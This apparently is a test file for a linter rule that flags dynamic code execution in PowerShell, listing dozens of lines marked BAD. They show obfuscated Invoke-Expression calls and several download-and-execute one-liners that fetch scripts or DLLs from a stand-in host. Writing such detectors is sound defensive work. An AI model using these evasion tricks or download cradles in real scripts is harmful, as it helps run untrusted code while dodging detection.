param($Text)
Invoke-Expression -Command $Text                                  # BAD no-eval/powershell-iex
INVOKE-expression $Text                                           # BAD no-eval/powershell-iex
Microsoft.PowerShell.Utility\Invoke-Expression $Text              # BAD no-eval/powershell-iex
In`voke-Ex`pression $Text                                         # BAD no-eval/powershell-iex
. iex $Text                                                       # BAD no-eval/powershell-iex
.('iex') $Text                                                    # BAD no-eval/powershell-iex
&'iex' $Text                                                      # BAD no-eval/powershell-iex
&("i"+"e"+"x") $Text                                              # BAD no-eval/powershell-iex
& ('xei'[-1..-3] -join '') $Text                                  # BAD no-eval/powershell-iex
& (-join ('i','e','x')) $Text                                     # BAD no-eval/powershell-iex
& ('iZx' -replace 'Z','e') $Text                                  # BAD no-eval/powershell-iex
& 'iQx'.Replace('Q','e') $Text                                    # BAD no-eval/powershell-iex
& ([char]105+[char]101+[char]120) $Text                           # BAD no-eval/powershell-iex
& (-join (105,101,120 | ForEach-Object { [char]$_ })) $Text       # BAD no-eval/powershell-iex
& (-join [char[]](105,101,120)) $Text                             # BAD no-eval/powershell-iex
& ([string]::Join('', ('i','e','x'))) $Text                       # BAD no-eval/powershell-iex
& ("{2}{0}{1}" -f 'voke-','Expression','In') $Text                # BAD no-eval/powershell-iex
& (gcm i*x) $Text                                                 # BAD no-eval/powershell-iex
& (Get-Command 'Invoke-Expr*') $Text                              # BAD no-eval/powershell-iex
& (Get-Alias iex) $Text                                           # BAD no-eval/powershell-iex
& ($ShellId[1]+$ShellId[13]+'x') $Text                            # BAD no-eval/powershell-iex
& ($PSHOME[4]+$PSHOME[30]+'x') $Text                              # BAD no-eval/powershell-iex
& ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4'))) $Text # BAD no-eval/powershell-iex
$name = 'ie'; $name += 'x'; & $name $Text                         # BAD no-eval/powershell-iex
$table = @{ run = 'iex' }; & $table.run $Text                     # BAD no-eval/powershell-iex
$list = 'iex', 'ls'; & $list[0] $Text                             # BAD no-eval/powershell-iex
Set-Alias go Invoke-Expression; go $Text                          # BAD no-eval/powershell-iex
New-Alias -Name gogo -Value iex; gogo $Text                       # BAD no-eval/powershell-iex
sal g2 iex; g2 $Text                                              # BAD no-eval/powershell-iex
Set-Variable -Name v -Value iex; & $v $Text                       # BAD no-eval/powershell-iex
$Text | Invoke-Expression                                         # BAD no-eval/powershell-iex
$Text | & 'iex'                                                   # BAD no-eval/powershell-iex
$Text | % { iex $_ }                                              # BAD no-eval/powershell-iex
foreach ($line in $Text) { iex $line }                            # BAD no-eval/powershell-iex
try { iex $Text } catch { }                                       # BAD no-eval/powershell-iex
$result = iex $Text                                               # BAD no-eval/powershell-iex
"$(iex $Text)"                                                    # BAD no-eval/powershell-iex
Invoke-Command -ScriptBlock ([scriptblock]::Create($Text))        # BAD no-eval/powershell-iex
icm ([ScriptBlock]::Create($Text))                                # BAD no-eval/powershell-iex
& ([scriptblock]::Create($Text))                                  # BAD no-eval/powershell-iex
.([System.Management.Automation.ScriptBlock]::Create($Text))      # BAD no-eval/powershell-iex
[ScriptBlock]::Create($Text).Invoke()                             # BAD no-eval/powershell-iex
[scriptblock]::('Cre' + 'ate')($Text)                             # BAD no-eval/powershell-iex
([type]'scriptblock')::Create($Text)                              # BAD no-eval/powershell-iex
$ExecutionContext.InvokeCommand.InvokeScript($Text)               # BAD no-eval/powershell-iex
$ExecutionContext.InvokeCommand.NewScriptBlock($Text)             # BAD no-eval/powershell-iex
$ExecutionContext.InvokeCommand.ExpandString($Text)               # BAD no-eval/powershell-iex
$ExecutionContext.InvokeCommand.('Invoke' + 'Script')($Text)      # BAD no-eval/powershell-iex
(Get-Variable ExecutionContext).Value.InvokeCommand.InvokeScript($Text) # BAD no-eval/powershell-iex
[PowerShell]::Create().AddScript($Text).Invoke()                  # BAD no-eval/powershell-iex
$ps = [powershell]::Create(); [void]$ps.AddScript($Text); $ps.Invoke() # BAD no-eval/powershell-iex
[runspacefactory]::CreateRunspace().CreatePipeline($Text).Invoke() # BAD no-eval/powershell-iex
powershell -Command $Text                                         # BAD no-eval/program-text
pwsh -NoProfile -NonInteractive -c $Text                          # BAD no-eval/program-text
powershell.exe -EncodedCommand bABzAA==                           # BAD no-eval/program-text
pwsh -enc bABzAA==                                                # BAD no-eval/program-text
powershell -nop -w hidden -e bABzAA==                             # BAD no-eval/program-text
Start-Process powershell -ArgumentList '-enc', 'bABzAA=='         # BAD no-eval/program-text
cmd /c $Text                                                      # BAD no-eval/program-text
bash -c $Text                                                     # BAD no-eval/program-text
python -c $Text                                                   # BAD no-eval/program-text
Start-Job -ScriptBlock ([scriptblock]::Create($Text))             # BAD no-eval/powershell-iex
iex (Get-Content $Text -Raw)                                      # BAD no-eval/powershell-iex
iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/a')) # BAD no-eval/powershell-iex
iex (curl https://x.example/a).Content                            # BAD no-eval/powershell-iex
iex ([IO.StreamReader]::new([IO.Compression.DeflateStream]::new([IO.MemoryStream]::new([Convert]::FromBase64String('S0ktLs4BAA==')), 'Decompress'))).ReadToEnd() # BAD no-eval/powershell-iex
iex "$([char]108)s"                                               # BAD no-eval/powershell-iex
Add-Type -TypeDefinition $Text                                    # BAD no-eval/native
Add-Type (irm https://x.example/a.cs)                             # BAD no-eval/native
[Reflection.Assembly]::Load([Convert]::FromBase64String($Text))   # BAD no-eval/js-eval
[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://x.example/a.dll')) # BAD no-eval/js-eval
function Wrap { param($Body) Invoke-Expression $Body }            # BAD no-eval/powershell-iex
Wrap $Text
filter Runs { iex $_ }                                            # BAD no-eval/powershell-iex
$Text | Runs
class Runner { [void] Go($t) { Invoke-Expression $t } }           # BAD no-eval/powershell-iex
[Runner]::new().Go($Text)
$block = { param($t) iex $t }                                     # BAD no-eval/powershell-iex
& $block $Text
Register-ObjectEvent $timer Elapsed -Action ([scriptblock]::Create($Text)) # BAD no-eval/powershell-iex
wsl bash -c $Text                                                 # BAD no-eval/program-text
